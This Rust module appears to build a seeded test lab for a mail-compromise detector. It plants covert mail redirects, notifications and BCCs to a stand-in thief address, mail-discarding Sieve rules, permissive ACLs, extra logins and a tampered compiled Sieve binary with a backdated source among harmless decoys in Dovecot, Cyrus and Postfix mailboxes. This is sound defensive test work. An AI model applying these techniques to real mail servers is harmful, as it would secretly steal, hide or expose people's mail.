//! Mailboxes full of harmless rules with plants among them: who looks for the plants must find each one where
//! it was put, and nothing else.
//!
//! The same seed gives the same population. What a plant is, and where, is decided without any server
//! ([`Population::new`]); [`Population::plant`] puts it there.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, chown, symlink};
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use crate::cyrus::Cyrus;
use crate::dovecot::MAIL_UID;
use crate::error::{LabError, Result, make_directory, write_file};
use crate::imap::Imap;
use crate::lab::Lab;
use crate::managesieve::ManageSieve;

/// Where stolen mail goes.
pub const THIEF: &str = "thief@gmail.example";
/// The annotation that makes a script run when mail is stored (RFC 6785).
const STORE_SCRIPT: &str = "/shared/imapsieve/script";
/// Where Dovecot keeps the key of signed URLs.
const URL_KEY: &str = "/private/vendor/vendor.dovecot/imap-urlauth";

/// Where Dovecot keeps the subscription to push notifications.
const PUSH: &str = "/private/vendor/vendor.dovecot/http-notify";
/// What Cyrus runs for the mail of a folder.
const FOLDER_SCRIPT: &str = "/shared/vendor/cmu/cyrus-imapd/sieve";
/// A login that nobody knows.
const INTRUDER: &str = "intruder";

/// A server whose mailboxes are reached by their owners' logins.
pub trait Mailboxes {
    /// An IMAP session of one of the users.
    fn imap(&self, login: &str) -> Result<Imap>;
    /// A ManageSieve session of one of the users.
    fn managesieve(&self, login: &str) -> Result<ManageSieve>;
    /// How a group stands in an access control list.
    fn group(&self, name: &str) -> String;
}

impl Mailboxes for Lab {
    fn imap(&self, login: &str) -> Result<Imap> {
        Lab::imap(self, login)
    }

    fn managesieve(&self, login: &str) -> Result<ManageSieve> {
        Lab::managesieve(self, login)
    }

    fn group(&self, name: &str) -> String {
        format!("${name}")
    }
}

impl Mailboxes for Cyrus {
    fn imap(&self, login: &str) -> Result<Imap> {
        Cyrus::imap(self, login)
    }

    fn managesieve(&self, login: &str) -> Result<ManageSieve> {
        Cyrus::managesieve(self, login)
    }

    fn group(&self, name: &str) -> String {
        format!("group:{name}")
    }
}

/// What is planted.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Kind {
    /// A copy of all mail leaves.
    ActiveRedirect,
    /// A script one click away from that.
    InactiveRedirect,
    /// The same under a name that a shell's `*` passes over.
    DotScript,
    /// A notification to an address outside.
    Notify,
    /// A script file where ManageSieve expects a link.
    PlainFile,
    /// A compiled form made from another source.
    TamperedBinary,
    /// A folder shared with a colleague.
    Grant,
    /// INBOX shared with anyone.
    GrantAnyone,
    /// A script that runs when mail is stored in a folder.
    StoreScript,
    /// The same for every folder of the mailbox.
    ServerScript,
    /// A signed URL of a message.
    SignedUrl,
    /// A login that is refused, while mail still arrives.
    Locked,
    /// An alias that sends a copy outside.
    Alias,
    /// A second login into the same home.
    SecondLogin,
    /// A script that throws mail away.
    Hides,
    /// The active script is a link out of its directory.
    LinkOutside,
    /// A folder shared with a group.
    GroupGrant,
    /// An entry that takes rights away.
    NegativeRight,
    /// A push service that is told of new mail.
    Push,
    /// A silent copy of all mail.
    Bcc,
    /// Another login that may send as the mailbox.
    SendAs,
    /// A script that Cyrus runs for the mail of a folder; [`Kind::ALL`] are those of Dovecot.
    FolderScript,
}

impl Kind {
    /// All kinds that Dovecot knows.
    pub const ALL: [Kind; 21] = [
        Kind::ActiveRedirect,
        Kind::InactiveRedirect,
        Kind::DotScript,
        Kind::Notify,
        Kind::PlainFile,
        Kind::TamperedBinary,
        Kind::Grant,
        Kind::GrantAnyone,
        Kind::StoreScript,
        Kind::ServerScript,
        Kind::SignedUrl,
        Kind::Locked,
        Kind::Alias,
        Kind::SecondLogin,
        Kind::Hides,
        Kind::LinkOutside,
        Kind::GroupGrant,
        Kind::NegativeRight,
        Kind::Push,
        Kind::Bcc,
        Kind::SendAs,
    ];
}

/// Where a finding must point.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Expected {
    /// The mailbox.
    pub mailbox: String,
    /// The surface.
    pub surface: &'static str,
    /// Script name, or the path of a script that is a file.
    pub script: Option<String>,
    /// Line in the script.
    pub line: Option<u32>,
    /// Folder.
    pub folder: Option<String>,
    /// File.
    pub file: Option<String>,
    /// Key, annotation or login.
    pub key: Option<String>,
}

/// One planted item.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Plant {
    /// What.
    pub kind: Kind,
    /// In whose mailbox.
    pub mailbox: String,
    /// A number that makes its name and line its own.
    pub number: u32,
}

/// The mailboxes and what is planted in them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Population {
    /// Users and their passwords, for the lab's options.
    pub users: Vec<(String, String)>,
    /// The plants.
    pub plants: Vec<Plant>,
}

/// A small generator of numbers that are the same everywhere (SplitMix64).
#[derive(Debug)]
struct Numbers(u64);

impl Numbers {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    fn below(&mut self, bound: usize) -> usize {
        usize::try_from(self.next() % bound.max(1) as u64).unwrap_or(0)
    }
}

impl Population {
    /// Mailboxes `p0@example.test` and so on; about half of them hold a plant, each kind at least once where
    /// there is room.
    #[must_use]
    pub fn new(seed: u64, mailboxes: usize) -> Population {
        Population::of(seed, mailboxes, &Kind::ALL)
    }

    /// The same with plants of certain kinds only.
    #[must_use]
    pub fn of(seed: u64, mailboxes: usize, kinds: &[Kind]) -> Population {
        let mut numbers = Numbers(seed);
        let mut boxes: Vec<usize> = (0..mailboxes).collect();
        for at in (1..boxes.len()).rev() {
            boxes.swap(at, numbers.below(at + 1));
        }
        let wanted = kinds.len().max(mailboxes / 2).min(mailboxes);
        let mut plants = Vec::new();
        for (nth, number) in boxes.into_iter().take(wanted).enumerate() {
            let kind = match kinds.get(nth) {
                Some(kind) => *kind,
                None => kinds[numbers.below(kinds.len())],
            };
            let number_of_plant = u32::try_from(numbers.below(40)).unwrap_or(0);
            plants.push(Plant { kind, mailbox: address(number), number: number_of_plant });
        }
        let twins = plants.iter().filter(|plant| plant.kind == Kind::SecondLogin).map(Plant::twin);
        let logins = (0..mailboxes).map(address).chain(twins);
        let users = logins.map(|login| (login.clone(), format!("{login}-pw"))).collect();
        Population { users, plants }
    }

    /// Every finding there has to be.
    #[must_use]
    pub fn expected(&self, lab: &Lab) -> Vec<Expected> {
        self.plants.iter().flat_map(|plant| plant.expected(lab)).collect()
    }

    /// What main.cf must say: tables with the plants, and rows beside them that do no harm.
    #[must_use]
    pub fn main_cf(&self) -> String {
        let of_kind = |kind| self.plants.iter().filter(move |plant| plant.kind == kind);
        let bcc = of_kind(Kind::Bcc).map(|plant| format!("{{ {} = {THIEF} }}", plant.mailbox));
        let senders = of_kind(Kind::SendAs)
            .map(|plant| format!("{{ {0} = {0} {INTRUDER} }}", plant.mailbox))
            .chain(of_kind(Kind::Bcc).map(|plant| format!("{{ {0} = {0} }}", plant.mailbox)));
        // An empty table is an error to Postfix.
        let table = |name: &str, rows: Vec<String>| match rows.is_empty() {
            true => String::new(),
            false => format!("{name} = inline:{{ {} }}\n", rows.join(", ")),
        };
        let (bcc, senders) = (bcc.collect(), senders.collect());
        table("recipient_bcc_maps", bcc) + &table("smtpd_sender_login_maps", senders)
    }

    /// Whether a login is the second one of a mailbox.
    #[must_use]
    pub fn is_twin(&self, login: &str) -> bool {
        self.plants.iter().any(|plant| plant.kind == Kind::SecondLogin && plant.twin() == login)
    }

    /// Puts everything into a lab that runs with these users: harmless rules everywhere, then the plants.
    pub fn plant(&self, lab: &Lab) -> Result<()> {
        self.plant_at(lab, lab)
    }

    /// The same with the mailboxes at another server than the lab's Dovecot; Postfix is the lab's.
    pub fn plant_at(&self, lab: &Lab, mailboxes: &dyn Mailboxes) -> Result<()> {
        for (login, _) in &self.users {
            harmless(mailboxes, login)?;
        }
        let aliases: Vec<(String, String)> = self
            .plants
            .iter()
            .filter(|plant| plant.kind == Kind::Alias)
            .map(|plant| (plant.mailbox.clone(), format!("{}, {THIEF}", plant.mailbox)))
            .collect();
        lab.postfix.set_virtual_aliases(&aliases)?;
        for plant in &self.plants {
            plant.put(lab, mailboxes)?;
        }
        Ok(())
    }
}

fn address(number: usize) -> String {
    format!("p{number}@example.test")
}

/// What looks like a plant and is none: the word in a comment, in a test, in a folder's name; an annotation
/// that runs nothing; a script that is off and does nothing.
fn harmless(mailboxes: &dyn Mailboxes, login: &str) -> Result<()> {
    let mut scripts = mailboxes.managesieve(login)?;
    let text = format!(
        "# redirect \"{THIEF}\";\r\nif header :contains \"Subject\" \"redirect {THIEF}\" {{ keep; }}\r\n\
         /* redirect \"{THIEF}\"; */\r\nkeep;\r\n"
    );
    scripts.putscript("main", &text)?;
    scripts.setactive("main")?;
    scripts.putscript("redirect", "keep;\r\n")?;
    let mut imap = mailboxes.imap(login)?;
    imap.create("redirect")?;
    imap.setmetadata("redirect", "/private/comment", Some(THIEF))
}

impl Plant {
    fn twin(&self) -> String {
        format!("second-{}", self.mailbox)
    }

    fn script(&self) -> String {
        match self.kind {
            Kind::DotScript => format!(".p{}", self.number),
            _ => format!("plant {}", self.number),
        }
    }

    /// The line after as many comments as its number says.
    fn line(&self) -> u32 {
        // The requirement stands before it.
        self.number + 2
    }

    fn source(&self, requires: &str, action: &str) -> String {
        let comments = "# keep;\r\n".repeat(self.number as usize);
        format!("require {requires};\r\n{comments}{action}\r\n")
    }

    fn redirect(&self) -> String {
        self.source("\"copy\"", &format!("redirect :copy \"{THIEF}\";"))
    }

    fn home(&self, lab: &Lab) -> PathBuf {
        lab.dovecot.home(&self.mailbox)
    }

    fn expected(&self, lab: &Lab) -> Vec<Expected> {
        let at = |surface| Expected { mailbox: self.mailbox.clone(), surface, ..Expected::default() };
        let in_home = |name: &str| Some(self.home(lab).join(name).display().to_string());
        match self.kind {
            Kind::ActiveRedirect | Kind::InactiveRedirect | Kind::DotScript | Kind::Notify | Kind::Hides => {
                vec![Expected {
                    script: Some(self.script()),
                    line: Some(self.line()),
                    ..at("managesieve.scripts")
                }]
            }
            Kind::PlainFile => vec![
                Expected { file: in_home(".dovecot.sieve"), ..at("sieve.files") },
                Expected { script: in_home(".dovecot.sieve"), line: Some(self.line()), ..at("sieve.files") },
            ],
            Kind::TamperedBinary => {
                vec![Expected { file: in_home(".dovecot.svbin"), ..at("sieve.files") }]
            }
            Kind::LinkOutside => vec![Expected { file: in_home(".dovecot.sieve"), ..at("sieve.files") }],
            Kind::Grant | Kind::GroupGrant | Kind::NegativeRight => {
                vec![Expected { folder: Some("redirect".to_owned()), ..at("imap.acl") }]
            }
            Kind::GrantAnyone => vec![Expected { folder: Some("INBOX".to_owned()), ..at("imap.acl") }],
            Kind::StoreScript => {
                vec![Expected {
                    folder: Some("Sent".to_owned()),
                    key: Some(STORE_SCRIPT.to_owned()),
                    ..at("imap.metadata")
                }]
            }
            Kind::ServerScript => {
                vec![Expected {
                    folder: Some(String::new()),
                    key: Some(STORE_SCRIPT.to_owned()),
                    ..at("imap.metadata")
                }]
            }
            Kind::FolderScript => vec![Expected {
                folder: Some("redirect".to_owned()),
                key: Some(FOLDER_SCRIPT.to_owned()),
                ..at("imap.metadata")
            }],
            Kind::SignedUrl => vec![Expected {
                folder: Some("INBOX".to_owned()),
                key: Some(URL_KEY.to_owned()),
                ..at("imap.urlauth")
            }],
            Kind::Push => vec![Expected {
                folder: Some("INBOX".to_owned()),
                key: Some(PUSH.to_owned()),
                ..at("imap.metadata")
            }],
            Kind::Bcc => vec![Expected { key: Some(self.mailbox.clone()), ..at("postfix.bcc_maps") }],
            Kind::SendAs => {
                vec![Expected { key: Some(self.mailbox.clone()), ..at("postfix.sender_login_maps") }]
            }
            Kind::Locked => vec![Expected { key: Some(self.mailbox.clone()), ..at("account.state") }],
            Kind::Alias => {
                vec![Expected { key: Some(self.mailbox.clone()), ..at("postfix.virtual_alias_maps") }]
            }
            Kind::SecondLogin => {
                vec![Expected { file: Some(self.home(lab).display().to_string()), ..at("account.aliasing") }]
            }
        }
    }

    fn put(&self, lab: &Lab, at: &dyn Mailboxes) -> Result<()> {
        match self.kind {
            Kind::ActiveRedirect => {
                let mut scripts = at.managesieve(&self.mailbox)?;
                scripts.putscript(&self.script(), &self.redirect())?;
                scripts.setactive(&self.script())
            }
            Kind::InactiveRedirect | Kind::DotScript => {
                at.managesieve(&self.mailbox)?.putscript(&self.script(), &self.redirect())
            }
            Kind::Notify => {
                let source = self.source("\"enotify\"", &format!("notify \"mailto:{THIEF}\";"));
                let mut scripts = at.managesieve(&self.mailbox)?;
                scripts.putscript(&self.script(), &source)?;
                scripts.setactive(&self.script())
            }
            Kind::Hides => {
                let test = "if header :contains \"Subject\" \"invoice\" { discard; }";
                let mut scripts = at.managesieve(&self.mailbox)?;
                // The test begins the line; what it does stands on the same one.
                scripts.putscript(&self.script(), &self.source("\"copy\"", test))?;
                scripts.setactive(&self.script())
            }
            Kind::LinkOutside => self.put_link(lab),
            Kind::PlainFile => self.put_plain_file(lab),
            Kind::TamperedBinary => tamper(lab, &self.mailbox),
            Kind::Grant => at.imap(&self.mailbox)?.setacl("redirect", "colleague@example.test", "lr"),
            Kind::GroupGrant => at.imap(&self.mailbox)?.setacl("redirect", &at.group("staff"), "lr"),
            Kind::NegativeRight => at.imap(&self.mailbox)?.setacl("redirect", "-colleague@example.test", "r"),
            Kind::Push => at.imap(&self.mailbox)?.setmetadata("INBOX", PUSH, Some("user=someone")),
            Kind::GrantAnyone => at.imap(&self.mailbox)?.setacl("INBOX", "anyone", "lr"),
            Kind::StoreScript => at.imap(&self.mailbox)?.setmetadata("Sent", STORE_SCRIPT, Some("redirect")),
            Kind::ServerScript => at.imap(&self.mailbox)?.setmetadata("", STORE_SCRIPT, Some("redirect")),
            Kind::FolderScript => {
                at.imap(&self.mailbox)?.setmetadata("redirect", FOLDER_SCRIPT, Some("redirect"))
            }
            Kind::SignedUrl => sign_url(lab, &self.mailbox),
            Kind::Locked => lab.dovecot.set_extra_fields(&self.mailbox, "nologin=y reason=left"),
            // These stand in tables of Postfix.
            Kind::Alias | Kind::Bcc | Kind::SendAs => Ok(()),
            Kind::SecondLogin => {
                let home = self.home(lab);
                lab.dovecot.set_extra_fields(&self.twin(), &format!("userdb_home={}", home.display()))
            }
        }
    }

    fn put_link(&self, lab: &Lab) -> Result<()> {
        let (link, target) = (self.home(lab).join(".dovecot.sieve"), self.home(lab).join("elsewhere.sieve"));
        write_as_user(&target, &self.redirect())?;
        fs::remove_file(&link).map_err(LabError::io("removing", &link))?;
        symlink("elsewhere.sieve", &link).map_err(LabError::io("linking", &link))
    }

    fn put_plain_file(&self, lab: &Lab) -> Result<()> {
        let path = self.home(lab).join(".dovecot.sieve");
        fs::remove_file(&path).map_err(LabError::io("removing", &path))?;
        write_as_user(&path, &self.redirect())
    }
}

fn write_as_user(path: &Path, text: &str) -> Result<()> {
    write_file(path, text)?;
    fs::set_permissions(path, fs::Permissions::from_mode(0o600)).map_err(LabError::io("protecting", path))?;
    chown(path, Some(MAIL_UID), Some(MAIL_UID)).map_err(LabError::io("giving away", path))
}

/// Compiles a thief's source, then puts the innocent one back with its old time: Dovecot goes on running the
/// compiled form, and ManageSieve shows the innocent text.
pub fn tamper(lab: &Lab, mailbox: &str) -> Result<()> {
    let home = lab.dovecot.home(mailbox);
    let (script, binary) = (home.join("sieve/main.sieve"), home.join(".dovecot.svbin"));
    let innocent = fs::read_to_string(&script).map_err(LabError::io("reading", &script))?;
    write_as_user(&script, &format!("require \"copy\";\nredirect :copy \"{THIEF}\";\n"))?;
    lab.dovecot.compile(mailbox, &home.join(".dovecot.sieve"), &binary)?;
    write_as_user(&script, &innocent)?;
    let past = SystemTime::now() - Duration::from_secs(3600);
    let file = fs::File::options().write(true).open(&script).map_err(LabError::io("opening", &script))?;
    file.set_modified(past).map_err(LabError::io("dating", &script))
}

/// Signs a URL of a message, which makes the key of the folder.
pub fn sign_url(lab: &Lab, mailbox: &str) -> Result<()> {
    let mut imap = lab.imap(mailbox)?;
    imap.append("INBOX", "Subject: a\r\n\r\nb\r\n")?;
    let user = mailbox.replace('@', "%40");
    let url = format!("imap://{user}@127.0.0.1/INBOX/;uid=1;urlauth=anonymous");
    imap.expect_ok(format!("GENURLAUTH \"{url}\" INTERNAL")).map(drop)
}

/// A directory of scripts that run before everybody's own, for `sieve_before`.
pub fn global_script(directory: &Path, name: &str, text: &str) -> Result<PathBuf> {
    let path = make_directory(directory)?.join(name);
    write_file(&path, text)?;
    Ok(path)
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn a_seed_is_a_population_and_every_kind_is_in_it() {
        let population = Population::new(7, 50);
        assert_eq!(population, Population::new(7, 50));
        assert_ne!(population.plants, Population::new(8, 50).plants);
        let kinds: BTreeSet<Kind> = population.plants.iter().map(|plant| plant.kind).collect();
        assert_eq!(kinds.len(), Kind::ALL.len());
        let boxes: BTreeSet<&String> = population.plants.iter().map(|plant| &plant.mailbox).collect();
        assert_eq!(boxes.len(), population.plants.len(), "one plant a mailbox");
        assert_eq!(population.plants.len(), 25);
    }
}
